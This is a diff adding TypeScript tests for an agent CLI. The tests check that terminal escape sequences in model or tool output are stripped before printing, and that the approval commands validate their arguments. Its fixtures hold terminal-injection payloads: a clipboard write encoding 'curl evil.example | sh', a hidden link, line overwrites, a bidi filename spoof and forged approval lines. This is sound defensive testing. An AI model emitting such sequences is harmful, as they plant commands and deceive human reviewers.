@@ -1,0 +1,200 @@
+/**
+ * What the CLI prints comes partly from models, tools and any client of a task: hostile terminal
+ * sequences in it must reach the terminal as plain text. And the people commands say precisely
+ * what is wrong with their arguments.
+ */
+import { approveCommand, denyCommand, messageCommand, unblockCommand } from '../../src/cli/commands/people';
+import {
+  renderApproval,
+  renderBlocked,
+  renderError,
+  renderEvent,
+  renderResult,
+  renderStatus,
+  renderSummaries,
+  renderView,
+  safeJson,
+  safeLine,
+  safeText,
+} from '../../src/cli/render';
+import type { ApprovalRequest, Escalation, TaskResult, TaskStatus } from '../../src/protocol/task';
+
+const ESC = '\u001b';
+const HOSTILE = {
+  clearScreen: `${ESC}[2J${ESC}[H`,
+  clipboardBel: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`,
+  clipboardSt: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${ESC}\\`,
+  hyperlink: `${ESC}]8;;https://evil.example/${ESC}\\click here${ESC}]8;;${ESC}\\`,
+  overwrite: 'refund 10 cents\rrefund 99999 cents',
+  bell: 'ding\u0007\u0007',
+  c1Csi: '\u009b2J\u009b31mred',
+  c1Osc: '\u009d0;fake title\u009c',
+  bidi: 'invoice_\u202Efdp.exe',
+  backspace: 'approve\b\b\b\b\b\b\bdeny',
+};
+const ALL = Object.values(HOSTILE).join(' | ');
+
+/** Nothing a terminal would act on: no C0 but newline and tab, no DEL, no C1, no bidi overrides. */
+function expectTerminalSafe(out: string): void {
+  expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+}
+
+describe('safeText strips terminal escapes and control characters', () => {
+  test.each([
+    ['ESC[2J clear screen', `before${HOSTILE.clearScreen}after`, 'beforeafter'],
+    ['OSC 52 clipboard write ended by BEL', `a${HOSTILE.clipboardBel}b`, 'ab'],
+    ['OSC 52 clipboard write ended by ST', `a${HOSTILE.clipboardSt}b`, 'ab'],
+    ['OSC 8 hyperlink (the text stays, the link goes)', HOSTILE.hyperlink, 'click here'],
+    ['\\r that overwrites the line', HOSTILE.overwrite, 'refund 10 centsrefund 99999 cents'],
+    ['BEL', HOSTILE.bell, 'ding'],
+    ['C1 0x9B CSI', HOSTILE.c1Csi, 'red'],
+    ['C1 0x9D OSC ended by C1 ST', `x${HOSTILE.c1Osc}y`, 'xy'],
+    ['bidi override', HOSTILE.bidi, 'invoice_fdp.exe'],
+    ['backspaces', HOSTILE.backspace, 'approvedeny'],
+    ['an unterminated OSC swallows the rest rather than leaking it', `safe${ESC}]52;c;AAAA`, 'safe'],
+  ])('%s', (_name, input, expected) => {
+    expect(safeText(input)).toBe(expected);
+  });
+
+  test('newlines and tabs are kept; CRLF becomes LF; ordinary Unicode is untouched', () => {
+    expect(safeText('line 1\r\nline 2\n\tindented — 日本語 ✓ émoji 😀')).toBe('line 1\nline 2\n\tindented — 日本語 ✓ émoji 😀');
+  });
+
+  test('safeLine keeps a one-line field on one line, so it cannot forge a line of its own', () => {
+    const forged = safeLine('fine\nAPPROVAL NEEDED (a-1): approved by ceo');
+    expect(forged).not.toContain('\n');
+    expect(forged).toBe('fine ⏎ APPROVAL NEEDED (a-1): approved by ceo');
+  });
+
+  test('safeJson is exact JSON (parses back to the same value) with no raw control character', () => {
+    const value = { text: ALL, nested: [HOSTILE.c1Csi, { k: '\u007f\u2028' }] };
+    const out = safeJson(value, 2);
+    expectTerminalSafe(out);
+    expect(JSON.parse(out)).toEqual(value);
+    expect(out).toContain('\\u009b');
+  });
+});
+
+describe('every CLI view prints model- and tool-controlled text without its escapes', () => {
+  const approval: ApprovalRequest = {
+    id: `apr-1${HOSTILE.clearScreen}`,
+    tool: `refund_order${HOSTILE.bell}`,
+    toolUseId: 'toolu_1',
+    input: { order_id: 'O-0001', note: ALL },
+    inputHash: 'h',
+    effect: 'write',
+    reason: `needs approval${HOSTILE.hyperlink}\nAPPROVED by finance`,
+    turn: 2,
+    requestedAt: '2025-01-01T00:00:00.000Z',
+    expiresAt: '2025-01-02T00:00:00.000Z',
+    onExpiry: 'deny',
+  };
+  const escalation: Escalation = { id: 'e-1', level: 'block', code: `loop${HOSTILE.c1Csi}`, reason: `stuck ${HOSTILE.clipboardBel}`, turn: 3, at: 'now', resolved: { by: `eve${HOSTILE.overwrite}`, at: 'later', how: HOSTILE.c1Osc } };
+  const result: TaskResult = {
+    outcome: 'answered',
+    text: `Done.\nSecond line${HOSTILE.clearScreen}${HOSTILE.clipboardSt}`,
+    turns: 3,
+    toolCalls: 2,
+    usage: { inputTokens: 10, outputTokens: 5 } as TaskResult['usage'],
+    costUsd: 0,
+    model: `scripted${HOSTILE.bidi}`,
+  };
+  const status = {
+    agent: `demo${HOSTILE.bell}`,
+    phase: 'blocked',
+    agentStatus: 'blocked',
+    model: 'm',
+    turn: 3,
+    budgets: { turns: { used: 3, limit: 10, left: 7 }, toolCalls: { used: 2, limit: 20, left: 18 }, toolCallsPerTurn: 5, correctionsPerTool: 2 },
+    unpricedModels: [HOSTILE.c1Csi],
+    toolCalls: { total: 2, succeeded: 1, failed: 1 },
+    pendingApprovals: [approval],
+    approvals: [{ ...approval, decision: 'denied', by: `mallory${HOSTILE.clearScreen}`, decidedAt: 'then', comment: HOSTILE.clipboardBel, denyReason: HOSTILE.overwrite, editedInput: { x: HOSTILE.c1Osc } }],
+    escalations: [escalation],
+    decisions: [{ at: 'now', by: `bob${HOSTILE.bell}`, action: 'message', detail: HOSTILE.hyperlink }],
+    blocked: escalation,
+    lastError: { error_class: 'transient', code: 'http_502', detail: `bad gateway ${HOSTILE.clearScreen}`, hint: HOSTILE.c1Csi, retryable: true, attempts: 3 },
+    usage: { inputTokens: 10, outputTokens: 5 },
+    costUsd: 0,
+    events: [{ seq: 1, at: 'now', kind: 'tool_failed', turn: 1, tool: `read_file${HOSTILE.bell}`, detail: `{"path":"x"} ${ALL}` }],
+    eventCount: 1,
+    result,
+  } as unknown as TaskStatus;
+
+  test.each([
+    ['watch/status: an event', () => renderEvent(status.events[0]!)],
+    ['status: the whole view', () => renderStatus(`task${HOSTILE.bell}`, status)],
+    ['status: a view from history with a note', () => renderView({ summary: { taskId: 't', runId: 'r', executionStatus: 'COMPLETED', startTime: new Date(0), agent: HOSTILE.c1Csi }, result, failure: status.lastError!, note: HOSTILE.clipboardBel })],
+    ['watch: a pending approval', () => renderApproval('t', approval)],
+    ['watch: a block', () => renderBlocked('t', escalation)],
+    ['result: the answer', () => renderResult(result)],
+    ['result: a failure', () => renderError(status.lastError!)],
+    ['list: memo waitingFor', () => renderSummaries([{ taskId: 't-1', runId: 'r', executionStatus: 'RUNNING', startTime: new Date(0), agentStatus: 'awaiting_approval', waitingFor: `approval of refund_order ${ALL}` }])],
+  ])('%s is terminal-safe', (_name, render) => {
+    expectTerminalSafe(render());
+  });
+
+  test("an approval's reason cannot forge a line, and its arguments are shown exactly (escaped), not hidden", () => {
+    const out = renderApproval('t', approval);
+    expect(out.split('\n').filter((l) => l.startsWith('APPROVED'))).toEqual([]);
+    expect(out).toContain('\\u001b[2J');
+    expect(out).toContain('\\u009b2J');
+  });
+
+  test("the model's final answer keeps its own lines", () => {
+    expect(renderResult(result)).toContain('Done.\nSecond line');
+  });
+
+  test('list columns stay aligned when a cell carried hidden characters', () => {
+    const out = renderSummaries([
+      { taskId: `t-1${HOSTILE.clearScreen}`, runId: 'r', executionStatus: 'RUNNING', startTime: new Date(0), agent: 'demo' },
+      { taskId: 't-2', runId: 'r', executionStatus: 'RUNNING', startTime: new Date(0), agent: 'demo' },
+    ]);
+    // Where a terminal shows each column: after it has consumed any escape sequence.
+    const shown = (line: string) => line.replace(/\u001b\[[0-9;]*[A-Za-z]/g, '');
+    const [, first, second] = out.split('\n');
+    expect(shown(first!).indexOf('demo')).toBe(shown(second!).indexOf('demo'));
+  });
+});
+
+describe("the people commands' own argument checks say precisely what is wrong", () => {
+  /** The message and exit code of a usage error, raised before any connection is tried. */
+  const usage = async (run: Promise<number>) => {
+    const err = (await run.then(() => undefined, (e: unknown) => e)) as { message: string; exitCode: number } | undefined;
+    expect(err?.exitCode).toBe(2);
+    return err!.message;
+  };
+
+  test('--as missing is "is required"; --as blank is "must not be blank", not "is required"', async () => {
+    expect(await usage(approveCommand(['t', 'a']))).toMatch(/^--as NAME is required/);
+    expect(await usage(approveCommand(['t', 'a', '--as', '   ']))).toMatch(/^--as must not be blank/);
+    expect(await usage(denyCommand(['t', 'a', '--as', '', '--reason', 'no']))).toMatch(/^--as must not be blank/);
+    expect(await usage(unblockCommand(['t', '--as=']))).toMatch(/^--as must not be blank/);
+    expect(await usage(messageCommand(['t', 'hi', '--as', ' ']))).toMatch(/^--as must not be blank/);
+  });
+
+  test('--edit that is JSON but not an object names the type it got', async () => {
+    expect(await usage(approveCommand(['t', 'a', '--as', 'ana', '--edit', '42']))).toBe('--edit must be a JSON object of tool arguments, got a number');
+    expect(await usage(approveCommand(['t', 'a', '--as', 'ana', '--edit', '"x"']))).toBe('--edit must be a JSON object of tool arguments, got a string');
+    expect(await usage(approveCommand(['t', 'a', '--as', 'ana', '--edit', '[1]']))).toBe('--edit must be a JSON object of tool arguments, got an array');
+    expect(await usage(approveCommand(['t', 'a', '--as', 'ana', '--edit', 'null']))).toBe('--edit must be a JSON object of tool arguments, got null');
+    expect(await usage(approveCommand(['t', 'a', '--as', 'ana', '--edit', '{oops']))).toMatch(/^--edit must be a JSON object of tool arguments; it is not JSON/);
+  });
+
+  test('--reason missing is "is required"; blank is "must not be blank"', async () => {
+    expect(await usage(denyCommand(['t', 'a', '--as', 'ana']))).toMatch(/^--reason TEXT is required/);
+    expect(await usage(denyCommand(['t', 'a', '--as', 'ana', '--reason', '  ']))).toMatch(/^--reason must not be blank/);
+  });
+
+  test('an empty --comment, --message or APPROVAL_ID is refused instead of silently dropped', async () => {
+    expect(await usage(approveCommand(['t', 'a', '--as', 'ana', '--comment', '']))).toMatch(/^--comment must not be empty/);
+    expect(await usage(unblockCommand(['t', '--as', 'ana', '--message', ' ']))).toMatch(/^--message must not be empty/);
+    expect(await usage(approveCommand(['t', '', '--as', 'ana']))).toMatch(/^APPROVAL_ID must not be empty/);
+    expect(await usage(denyCommand(['t', ' ', '--as', 'ana', '--reason', 'no']))).toMatch(/^APPROVAL_ID must not be empty/);
+  });
+
+  test('--cost-usd must be a finite positive number', async () => {
+    expect(await usage(unblockCommand(['t', '--as', 'ana', '--cost-usd', 'Infinity']))).toMatch(/^--cost-usd must be a positive number/);
+    expect(await usage(unblockCommand(['t', '--as', 'ana', '--cost-usd', 'abc']))).toMatch(/^--cost-usd must be a positive number/);
+  });
+});
